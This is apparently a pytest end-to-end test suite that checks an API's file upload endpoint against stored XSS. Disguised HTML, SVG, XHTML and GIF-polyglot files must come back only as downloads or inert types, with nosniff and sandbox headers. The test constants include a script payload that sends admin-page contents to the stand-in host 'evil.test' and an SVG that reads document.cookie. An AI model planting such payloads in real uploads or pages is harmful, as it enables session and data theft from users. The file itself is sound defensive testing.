"""Stored XSS through uploads (issue 15, item 1): files with script in them are uploaded to a real daphne under every
disguise, then fetched the way a victim's browser would (the keyless signed source_url, the keyed preview, with and
without as_attachment). None may come back inline or with a type a browser would run."""
from __future__ import annotations

import struct
import zlib

import httpx
import pytest

from agentcore.models import AgentApp
from difyapi.auth import api_key_create
from difyapi.models import UploadFile

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

SCRIPT = b"<script>fetch('/admin/').then(r => r.text()).then(t => new Image().src = '//evil.test/?' + t)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">' + SCRIPT + b"</svg>"
XHTML = (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' + SCRIPT.replace(b"=>", b"=&gt;")
         + b"</body></html>")
# A valid GIF header followed by markup: a browser that sniffed it would find the script.
GIF_POLYGLOT = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + HTML

ACTIVE_TYPES = ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/xml",
                "text/javascript", "application/javascript")
FILE_CSP = "sandbox; default-src 'none'; frame-ancestors 'none'"


def png_bytes() -> bytes:
    """A real 1x1 PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
            + chunk(b"IEND", b""))


@pytest.fixture
def app_key() -> str:
    app = AgentApp.objects.create(name="uploads-attack", mode="chat")
    return api_key_create(app=app)[1]


def upload(server, key: str, name: str, content: bytes, declared: str) -> httpx.Response:
    return httpx.post(f"{server.base_url}/v1/files/upload", files={"file": (name, content, declared)},
                      data={"user": "mallory"}, headers={"Authorization": f"Bearer {key}"}, timeout=20)


def fetches(server, key: str, data: dict) -> list[httpx.Response]:
    """Every way the file can be fetched: the signed URL as given (keyless, what a victim would be sent), with
    as_attachment=false, and the keyed preview."""
    keyed = f"{server.base_url}/v1/files/{data['id']}/preview"
    return [
        httpx.get(data["source_url"], timeout=20),
        httpx.get(data["source_url"] + "&as_attachment=false", timeout=20),
        httpx.get(keyed, headers={"Authorization": f"Bearer {key}"}, timeout=20),
        httpx.get(keyed, params={"as_attachment": "false"}, headers={"Authorization": f"Bearer {key}"}, timeout=20),
    ]


def assert_inert(response: httpx.Response, *, body: bytes, inline_type: str | None = None) -> None:
    assert response.status_code == 200, response.text
    assert response.content == body
    content_type = response.headers["content-type"]
    assert not content_type.startswith(ACTIVE_TYPES)
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-security-policy"] == FILE_CSP
    if inline_type is None:
        assert response.headers["content-disposition"].startswith("attachment")
    else:
        assert content_type == inline_type
        assert response.headers["content-disposition"].startswith("inline")


# Each case: (file name, declared type, bytes, the type it is stored, reported and served as).
DISGUISED_MARKUP = [
    ("page.html", "text/html", HTML, "text/plain"),
    ("logo.xml", "image/svg+xml", SVG, "text/plain"),  # an SVG with script, under an accepted text name
    ("page.html", "application/xhtml+xml", XHTML, "text/plain"),
    ("notes.txt", "image/png", HTML, "text/plain"),  # a polyglot: HTML declared image/png
]
# Each case: (file name, declared type, bytes) that must not be stored at all.
REFUSED = [
    ("logo.svg", "image/svg+xml", SVG),
    ("page.xhtml", "application/xhtml+xml", XHTML),
    ("chart.png", "image/png", HTML),  # HTML under an image name, declared image/png
    ("chart.gif", "image/gif", SVG),
]


# One daphne per test (not per case): starting one takes seconds on a busy machine.
def test_uploaded_markup_is_only_ever_downloaded(daphne_server, app_key):
    for name, declared, content, stored_as in DISGUISED_MARKUP:
        response = upload(daphne_server, app_key, name, content, declared)
        assert response.status_code == 201, response.text
        data = response.json()
        assert data["mime_type"] == stored_as
        for fetched in fetches(daphne_server, app_key, data):
            assert_inert(fetched, body=content)
            assert fetched.headers["content-type"] == stored_as


def test_markup_claiming_an_image_or_active_type_is_refused(daphne_server, app_key):
    for name, declared, content in REFUSED:
        response = upload(daphne_server, app_key, name, content, declared)
        assert response.status_code == 415, (name, response.text)
        assert response.json() == {"code": "unsupported_file_type", "message": "File type not allowed.",
                                   "status": 415}
    assert not UploadFile.objects.exists()


def test_images_are_inline_as_their_own_type_and_never_sniffed(daphne_server, app_key):
    png = png_bytes()
    answer = upload(daphne_server, app_key, "chart.png", png, "image/png")
    assert answer.status_code == 201, (answer.text, daphne_server.log()[-3000:])
    data = answer.json()
    assert data["mime_type"] == "image/png"
    for response in fetches(daphne_server, app_key, data):
        assert_inert(response, body=png, inline_type="image/png")
    download = httpx.get(data["source_url"] + "&as_attachment=true", timeout=20)
    assert download.headers["content-disposition"].startswith("attachment")
    # A valid GIF header with markup behind it is a GIF: served as image/gif with nosniff, never read as HTML.
    data = upload(daphne_server, app_key, "pixel.gif", GIF_POLYGLOT, "text/html").json()
    assert data["mime_type"] == "image/gif"
    for response in fetches(daphne_server, app_key, data):
        assert_inert(response, body=GIF_POLYGLOT, inline_type="image/gif")
